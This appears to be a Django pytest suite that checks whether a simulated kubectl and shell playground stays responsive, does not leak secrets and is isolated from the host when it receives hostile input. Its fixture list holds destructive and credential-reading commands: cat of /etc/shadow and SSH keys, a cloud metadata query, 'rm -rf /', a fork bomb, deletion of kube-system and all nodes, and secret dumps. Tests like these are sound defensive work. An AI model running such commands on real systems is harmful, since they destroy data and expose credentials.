"""Whatever is typed or sent, there is an answer, soon, and never an error page; nothing reaches the host."""

import time

import pytest
from django.test import Client

from tests.playground.bench import SERVICE, post, run

pytestmark = pytest.mark.django_db

LINES = [
    "cat /etc/passwd; cat /etc/shadow; ls /; ls /root /work",
    "cat ../../../../etc/passwd ~/.ssh/id_rsa /proc/self/environ",
    "env; printenv; echo $PATH $HOME $SECRET_KEY $DATABASE_URL",
    "python3 -c 'import os; os.system(\"id\")'; perl -e1; bash -c id; sh; sudo su",
    "$(cat /etc/passwd) `id` ${x:-$(id)}",
    "curl file:///etc/passwd; curl http://127.0.0.1:8000/; curl http://169.254.169.254/latest",
    "wget -O- http://localhost/; nc -l 4444; ssh root@example.com",
    "kubectl apply -f /etc/passwd; kubectl apply -f http://example.com/x.yaml; kubectl create -f ..",
    "kubectl exec web-1 -- cat /etc/passwd; kubectl cp web-1:/etc/passwd .",
    "kubectl get secrets -A -o yaml; kubectl config view --raw",
    "echo a > /etc/passwd; rm -rf /; dd if=/dev/zero of=x",
    ":(){ :|:& };:",
    "while true; do :; done",
    "for i in 1 2 3; do for j in 1 2 3; do for k in 1 2 3; do kubectl get all -A; done; done; done",
    "yes | head -n 100000000; seq 1 100000000; seq 1 9999999999999999999",
    "cat <<EOF\n" + "x" * 5000 + "\nEOF",
    "cat <<EOF",
    "'", '"', "\\", "|", "&&", ";;", "(", ")", "$(", "`", "<", ">", "{", "}", "!", "~", "*", "#",
    "kubectl " + "-" * 4000,
    "kubectl get pods " + "a," * 2000,
    "kubectl get pods -o jsonpath='" + "{" * 500 + "'",
    "kubectl get pods -o custom-columns=" + "A:.b," * 500,
    "kubectl patch svc web -p '" + "[" * 3000 + "'",
    "kubectl patch svc web --type json -p '[{\"op\":\"add\",\"path\":\"/spec/ports/-\",\"value\":{}}]'",
    "grep -E '(a+)+$' service.yaml; echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa! | grep -E '^(a+)+$'",
    "awk 'BEGIN { while (1) {} }'; awk 'BEGIN { system(\"id\") }'",
    "sed 's/.*/" + "&" * 2000 + "/' service.yaml",
    "curl -s -m 99999999 http://10.96.0.99; sleep 99999; ping 10.0.0.1; watch date; kubectl get pods -w",
    "curl http://web:99999/; curl http://[::1]/; curl http://%00/; curl http://xn--/; curl -H '\r\n' web",
    "nslookup " + "a." * 126 + "; dig +trace example.com; dig -x 1.2.3.4; dig @8.8.8.8 web",
    "\x00\x01\x1b[31m\x7f", "é\u202e\U0001f6a2", "\ud83d", "a\rb", "\t\t", "\u2028", "\x85",
    "kubectl scale deployment nothing --replicas=99999999999999999999",
    "kubectl create deployment big --image=nginx --replicas=2147483647",
    "kubectl create ns " + "a" * 300,
    "kubectl delete ns kube-system default; kubectl delete nodes --all; kubectl delete all --all -A",
    "kubectl delete svc kubernetes; kubectl delete pods --all -n kube-system; curl web",
    "kubectl run x --image=busybox -it --rm -- sh -c 'cat /etc/passwd'",
    "alias ls='ls; ls'; ls; a=$a$a$a$a; export PATH=",
]  # fmt: skip
FORM = "application/x-www-form-urlencoded"
SECRETS = ("root:x:0:0", "SECRET_KEY", "/work/main", "django", "portside.sqlite3")


@pytest.mark.parametrize("line", LINES, ids=range(len(LINES)))
def test_every_line_has_an_answer(client: Client, line: str) -> None:
    run(client, "true")  # what is made once is made
    start = time.thread_time()
    answer = post(client, "run", line=line.encode("utf-8", "replace").decode(), manifest=SERVICE)
    spent = time.thread_time() - start
    assert answer.status_code == 200
    assert spent < 1, f"{spent:.2f} s of work"
    shown = answer.text.partition('<div class="term-entry')[2].partition("</b>")[2]
    assert not [word for word in SECRETS if word in shown and word not in line]
    page = client.get("/playground/")
    assert page.status_code == 200
    asked = {"from": "external", "to": "172.30.0.11", "port": "30080", "place": "playground"}
    assert client.get("/playground/trace/", asked, headers={"HX-Request": "true"}).status_code == 200
    post(client, "act", do="undo")
    post(client, "act", do="reset")


FORMS: list[dict[str, str]] = [
    {},
    {"line": "\0"},
    {"line": "true", "where": "\0", "asked": "\0", "service": "\0"},
    {"line": "true", "manifest": "\0"},
    {"line": "true", "manifest": "[" * 60_000},
    {"line": "kubectl apply -f service.yaml", "manifest": "a: &a [*a]\n"},
    {"do": "undo:" + "9" * 5000},
    {"do": "ready:" + "x" * 5000},
    {"do": ":::"},
    {"do": "lab", "lab": "\0"},
    {"do": "around", "mode": "\0", "balancer": "\0"},
    {"edited": "\0", "save": "1"},
    {"edited": "[" * 60_000, "save": "1"},
    {"asked": "from=\0&to=\0&port=\0"},
    {"fix": "x", "swap": "undo", "former": "y"},
]


@pytest.mark.parametrize("view", ["run", "apply", "edit", "act", "share"])
@pytest.mark.parametrize("fragment", [True, False])
def test_every_form_has_an_answer(client: Client, view: str, fragment: bool) -> None:
    post(client, "apply", manifest=SERVICE)
    for form in FORMS:
        assert post(client, view, fragment=fragment, **form).status_code in {200, 302, 404, 422}, form
    assert client.get("/playground/").status_code == 200


@pytest.mark.parametrize("view", ["run", "apply", "edit", "act", "share"])
def test_bodies_that_are_no_form(client: Client, view: str) -> None:
    url = f"/playground/{view}/"
    assert client.post(url, "{}", content_type="application/json").status_code == 404
    assert client.generic("POST", url, b"\xff\xfe", FORM).status_code == 404
    body = b"place=playground&line=echo+%FF%FE&do=reset&manifest=%FF"
    answer = client.generic("POST", url, body, FORM)
    assert answer.status_code in {200, 302, 422}
